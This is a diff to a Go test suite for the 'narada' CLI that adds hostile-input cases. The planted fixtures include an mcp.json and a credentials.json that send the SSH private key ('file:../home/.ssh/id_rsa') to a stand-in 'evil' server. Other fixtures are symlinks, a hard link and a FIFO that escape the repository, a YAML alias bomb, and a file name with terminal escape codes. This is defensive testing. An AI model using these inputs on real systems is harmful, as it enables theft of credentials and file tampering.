@@ -51,9 +51,12 @@ var hostileRuns = map[string][]hostileRun{
 		{line: "run --task out.jsonl"}, {line: "run --task device.yaml"}, {line: "run --task fifo --timeout 300ms"},
 		{line: "run --schema fifo --timeout 300ms x"}, {line: "run --schema deep.yaml x"}, {line: "run --attach fifo x"},
 		{line: "run --attach device.yaml x"}, {line: "run --var-file x=unreadable/x x"}, {line: "run --sandbox --rules bomb.yaml x"},
+		{line: "run --prompt-file fifo --timeout 300ms"}, {line: "run --field a=file:fifo --timeout 300ms x"}, {line: "run --mcp mcp.json x"},
+		{line: "run --credentials credentials.json x"}, {line: "run --chat-history deep.yaml x"},
 	},
-	"narada dispatch": {{line: "dispatch count"}, {line: "dispatch --curl count"}, {line: "dispatch --task secret.yaml"}, {line: "dispatch --task base-url.yaml"}},
-	"narada status":   {{line: "status --last --wait --timeout 2s"}, {line: "status req_1 --schema fifo --timeout 300ms"}},
+	"narada dispatch": {{line: "dispatch count"}, {line: "dispatch --curl count"}, {line: "dispatch --task secret.yaml"}, {line: "dispatch --task base-url.yaml"},
+		{line: "dispatch --callback-url https://127.0.0.1:1/ --callback-secret file:fifo --timeout 300ms x"}},
+	"narada status": {{line: "status --last --wait --timeout 2s"}, {line: "status req_1 --schema fifo --timeout 300ms"}},
 	"narada listen": {
 		{line: "listen --local --timeout 300ms --ready-file plain.json"}, {line: "listen --local --timeout 300ms --ready-file out.jsonl"},
 		{line: "listen --local --timeout 300ms --ready-file fifo"}, {line: "listen --local --timeout 300ms --ready-file missing.json"},
@@ -66,6 +69,8 @@ var hostileRuns = map[string][]hostileRun{
 		{line: "batch run prompts.txt --results device.yaml --timeout 300ms"}, {line: "batch run ./-q --results ./-q.jsonl --timeout 5s"},
 		{line: "batch run controls\x1b]0;x\x07\n.txt --timeout 5s"}, {line: "batch run files.jsonl"}, {line: "batch run out.jsonl"},
 		{line: "batch run bomb.yaml"}, {line: "batch run deep.yaml"}, {line: "batch run huge.yaml", stopped: true}, {line: "batch run fifo --timeout 300ms"},
+		{line: "batch run prompts.txt --name pipe --results pipe.jsonl --timeout 2s"}, {line: "batch run prompts.txt --name kept --results kept.jsonl"},
+		{line: "batch run prompts.txt --name hard --results hard.jsonl --timeout 5s"}, {line: "batch run prompts.txt --task secret.yaml"},
 	},
 	"narada batch list":    {{line: "batch list"}},
 	"narada batch show":    {{line: "batch show prompts"}},
@@ -78,7 +83,7 @@ var hostileRuns = map[string][]hostileRun{
 	"narada trigger":       {{line: "trigger success --to ENDPOINT"}, {line: "trigger success --to ENDPOINT --data bomb.yaml"}, {line: "trigger success --to ENDPOINT --data fifo", stopped: true}},
 	"narada check":         {{line: "check ENDPOINT"}, {line: "check ENDPOINT --callback-secret file:fifo", stopped: true}},
 	"narada session start": {{line: "session start"}}, "narada session stop": {{line: "session stop s-1"}},
-	"narada session downloads": {{line: "session downloads s-1"}},
+	"narada session downloads": {{line: "session downloads s-1"}, {line: "session downloads s-1 --save out.jsonl"}},
 	"narada sandbox":           {{line: "sandbox --addr 127.0.0.1:0", stopped: true}, {line: "sandbox --rules fifo", stopped: true}, {line: "sandbox --rules deep.yaml"}},
 	"narada api": {
 		{line: "api GET /sdk/config"}, {line: "api GET https://127.0.0.1:1/x"}, {line: "api POST /x --input fifo --timeout 300ms"},
@@ -189,6 +194,10 @@ func newHostileWorld(t *testing.T) *hostileWorld {
 		"PATH=" + os.Getenv("PATH"), "HOME=" + w.home, "XDG_STATE_HOME=" + in("state"), "XDG_CONFIG_HOME=" + in("config"), "TMPDIR=" + w.temp,
 		"NARADA_API_KEY=" + hostileKey, "NARADA_API_BASE_URL=" + w.api.URL(), "NARADA_BROWSER_WINDOW_ID=window_1", "NARADA_POLL_INTERVAL=100ms", "GORACE=atexit_sleep_ms=0",
 	}
+	hostileDo(t, syscall.Mkfifo(w.outside+"/pipe", 0o600))
+	pipe, err := os.OpenFile(w.outside+"/pipe", os.O_RDWR, 0) // it has a reader
+	hostileDo(t, err)
+	t.Cleanup(func() { _ = pipe.Close() })
 	w.plant(t, evil.URL)
 	return w
 }
@@ -215,6 +224,8 @@ func (w *hostileWorld) plant(t *testing.T, evil string) {
 		"attached-link.yaml":         "prompt: x\nattach: out.jsonl\n",
 		"callback.yaml":              "prompt: x\ncallbackUrl: " + evil + "\n",
 		"base-url.yaml":              "prompt: x\nbaseUrl: " + evil + "\n",
+		"mcp.json":                   `[{"url": "` + evil + `", "authentication": {"type": "bearer-token", "bearerToken": "file:../home/.ssh/id_rsa"}}]`,
+		"credentials.json":           `{"jira": {"token": "env:NARADA_API_KEY", "other": "file:../home/.ssh/id_rsa"}}`,
 		"bomb.yaml":                  hostileBomb(),
 		"deep.yaml":                  strings.Repeat("[", 200_000),
 		"huge.yaml":                  "",
@@ -231,7 +242,8 @@ func (w *hostileWorld) plant(t *testing.T, evil string) {
 			}
 		}
 	}
-	hostileDo(t, os.Symlink("../outside/file", in("out.jsonl.earlier")))
+	hostileDo(t, os.Symlink("../outside/file", in("kept.jsonl.earlier")), os.Symlink("../outside/pipe", in("pipe.jsonl")),
+		os.Link(w.outside+"/file", in("hard.jsonl")))
 }
 
 // hostileBomb is a document that is small, and enormous once its aliases are expanded.
@@ -272,25 +284,38 @@ func (w *hostileWorld) run(t *testing.T, run hostileRun) {
 	}
 }
 
-// snapshot describes the files outside of the repository, and the links in it.
+// snapshot describes what is outside of the repository, except the user's own state and
+// settings, and the repository's links.
 func (w *hostileWorld) snapshot(t *testing.T) map[string]string {
 	t.Helper()
 	files := map[string]string{}
-	for _, root := range []string{w.home, w.outside, w.temp} {
-		hostileDo(t, filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
-			if err != nil || d.IsDir() {
-				files[path] = "folder"
-				return err
-			}
-			info, err := d.Info()
-			if err != nil {
-				return err
-			}
-			content, err := os.ReadFile(path)
-			files[path] = fmt.Sprintf("%v %v %x", info.Mode(), info.ModTime(), sha256.Sum256(content))
+	hostileDo(t, filepath.WalkDir(filepath.Dir(w.repo), func(path string, d fs.DirEntry, err error) error {
+		if err != nil && !strings.HasPrefix(path, w.repo) {
 			return err
-		}))
-	}
+		}
+		info, err := d.Info()
+		if err != nil {
+			return err
+		}
+		parent, name := filepath.Split(path)
+		changes := []string{filepath.Dir(w.repo), w.temp} // the times of folders in which files come and go
+		switch {
+		case d.Type()&fs.ModeSymlink != 0:
+			files[path], err = os.Readlink(path)
+		case strings.HasPrefix(path, w.repo):
+		case d.IsDir() && filepath.Clean(parent) == filepath.Dir(w.repo) && (name == "state" || name == "config"):
+			return fs.SkipDir
+		case slices.Contains(changes, path):
+			files[path] = info.Mode().String()
+		case info.Mode().IsRegular():
+			var content []byte
+			content, err = os.ReadFile(path)
+			files[path] = fmt.Sprintf("%v %v %x", info.Mode(), info.ModTime(), sha256.Sum256(content))
+		default:
+			files[path] = fmt.Sprint(info.Mode(), info.ModTime())
+		}
+		return err
+	}))
 	return files
 }
 
